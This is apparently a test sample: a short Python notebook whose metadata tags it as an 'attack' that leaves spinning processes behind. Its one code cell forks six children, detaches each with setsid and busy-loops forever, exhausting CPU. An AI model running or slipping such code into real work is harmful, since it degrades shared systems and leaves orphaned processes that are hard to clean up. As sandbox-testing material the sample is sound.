# ---
# jupyter:
#   attack: {harm: "it would leave a dozen spinning processes behind"}
# ---

# %% [markdown]
# Lets children in sessions of their own do the spinning.

# %%
import os

for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
